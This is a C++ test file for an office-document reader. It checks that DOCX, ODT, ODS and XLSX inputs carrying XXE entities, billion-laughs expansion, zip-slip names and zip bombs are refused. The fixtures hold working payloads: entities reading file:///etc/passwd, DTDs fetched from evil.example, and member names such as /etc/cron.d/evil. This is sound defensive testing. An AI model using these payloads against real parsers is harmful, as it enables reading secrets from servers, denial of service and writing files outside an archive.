// Office files that want something else than to be read: names that lead out of the archive, text that grows
// when it is unpacked or expanded, and parts that point to files and addresses elsewhere.
#include <doctest/doctest.h>

#include <string>

#include "reader/fuzz_support.hpp"
#include "reader/read.hpp"

namespace rimlig::reader {

namespace {

std::string refusal_of(std::string_view bytes, std::string_view name) {
  try {
    read(bytes, name);
  } catch (Refusal const& refusal) {
    return refusal.code();
  }
  return "";
}

std::string const types = R"(<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>)";

/// The smallest file of each kind, with `declaration` before and `text` inside its main part.
struct Kind {
  char const* name;
  std::string (*make)(std::string const& declaration, std::string const& text);
};
constexpr Kind kinds[] = {
    {"a.docx",
     [](std::string const& declaration, std::string const& text) {
       auto const part = "<?xml version=\"1.0\"?>" + declaration + R"(<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>)" + text +
                         "</w:t></w:r></w:p></w:body></w:document>";
       return fuzz::archive({{"[Content_Types].xml", types}, {"word/document.xml", part}});
     }},
    {"a.odt",
     [](std::string const& declaration, std::string const& text) {
       auto const part = "<?xml version=\"1.0\"?>" + declaration +
                         R"(<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:text><text:p>)" +
                         text + "</text:p></office:text></office:body></office:document-content>";
       return fuzz::archive({{"mimetype", "application/vnd.oasis.opendocument.text"}, {"content.xml", part}});
     }},
    {"a.ods",
     [](std::string const& declaration, std::string const& text) {
       auto const part =
           "<?xml version=\"1.0\"?>" + declaration +
           R"(<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"><office:body><office:spreadsheet><table:table table:name="a"><table:table-row><table:table-cell><text:p>)" +
           text + "</text:p></table:table-cell></table:table-row></table:table></office:spreadsheet></office:body></office:document-content>";
       return fuzz::archive({{"mimetype", "application/vnd.oasis.opendocument.spreadsheet"}, {"content.xml", part}});
     }},
    {"a.xlsx",
     [](std::string const& declaration, std::string const& text) {
       auto const sheet = "<?xml version=\"1.0\"?>" + declaration +
                          R"(<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>)" + text +
                          "</t></is></c></row></sheetData></worksheet>";
       std::string const book =
           R"(<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="a" sheetId="1" r:id="rId1"/></sheets></workbook>)";
       std::string const relations =
           R"(<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>)";
       return fuzz::archive({{"[Content_Types].xml", types}, {"xl/workbook.xml", book}, {"xl/_rels/workbook.xml.rels", relations}, {"xl/worksheets/sheet1.xml", sheet}});
     }},
};

std::string laughs() {
  std::string out = "<!DOCTYPE x [<!ENTITY l0 \"ha\">";
  for (int n = 1; n <= 12; ++n) {
    out += "<!ENTITY l" + std::to_string(n) + " \"";
    for (int k = 0; k < 10; ++k) out += "&l" + std::to_string(n - 1) + ";";
    out += "\">";
  }
  return out + "]>";
}

/// An archive with one packed part of that many equal bytes.
std::string bomb(char const* part, std::size_t size) {
  std::string const content(size, ' ');
  zip_error_t error;
  zip_source_t* target = zip_source_buffer_create(nullptr, 0, 0, &error);
  zip_source_keep(target);
  zip_t* made = zip_open_from_source(target, ZIP_TRUNCATE, &error);
  zip_file_add(made, part, zip_source_buffer(made, content.data(), content.size(), 0), 0);
  REQUIRE(zip_close(made) == 0);
  std::string bytes(2 * size, '\0');
  zip_source_open(target);
  bytes.resize(static_cast<std::size_t>(zip_source_read(target, bytes.data(), bytes.size())));
  zip_source_close(target);
  zip_source_free(target);
  return bytes;
}

}  // namespace

TEST_CASE("XXE: an entity that points elsewhere or laughs is refused in every office format, before it is followed") {
  for (auto const& kind : kinds) {
    CAPTURE(kind.name);
    REQUIRE(refusal_of(kind.make("", "vanlig text"), kind.name) == "");
    for (std::string const declaration : {std::string(R"(<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>)"), std::string(R"(<!DOCTYPE x [<!ENTITY % e SYSTEM "http://evil.example/x.dtd"> %e;]>)"),
                                          std::string(R"(<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">)"), laughs()})
      CHECK(refusal_of(kind.make(declaration, "&e;"), kind.name) == "doctype");
    CHECK(refusal_of(kind.make("", "&e;"), kind.name) == "damaged_xml");
  }
  // A page has no entities of its own; what looks like one is text.
  auto const page = read("<!DOCTYPE html [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><html><body><table><tr><td>a<td>&e;</table></body></html>", "a.html");
  CHECK(page.tables[0].rows[0].text(1) == "&e;");
}

TEST_CASE("zip slip: a member whose name leads out of the archive, or is there twice, is refused") {
  for (char const* name : {"../evil.txt", "word/../../evil.txt", "/etc/cron.d/evil", "..\\evil.txt", "C:evil.txt", "C:\\evil.txt", "word/..", "..", "\\\\server\\share"}) {
    CAPTURE(name);
    CHECK(refusal_of(fuzz::archive({{"[Content_Types].xml", types}, {name, "x"}}), "a.docx") == "unsafe_member");
  }
  CHECK(refusal_of(fuzz::archive({{"word/document.xml", "x"}, {"WORD/document.xml", "y"}}), "a.docx") == "doubled_member");
}

TEST_CASE("zip bombs: what swells when it is unpacked is stopped on the way, whatever it says about its size") {
  for (char const* part : {"word/document.xml", "content.xml", "xl/workbook.xml", "hej.txt"}) {
    CAPTURE(part);
    auto const bytes = bomb(part, 40u << 20);
    REQUIRE(bytes.size() < 100'000);
    auto const refused = refusal_of(bytes, "a.zip");
    CHECK((refused == "zip_bomb" || refused == "damaged_xml"));
  }
  CHECK(refusal_of(bomb("hej.txt", 40u << 20), "a.zip") == "zip_bomb");
}

TEST_CASE("an archive cut at any place is refused and never read past its end") {
  auto const whole = kinds[0].make("", "text");
  for (std::size_t length = 4; length < whole.size(); ++length) CHECK(refusal_of(whole.substr(0, length), "a.docx") != "");
}

}  // namespace rimlig::reader
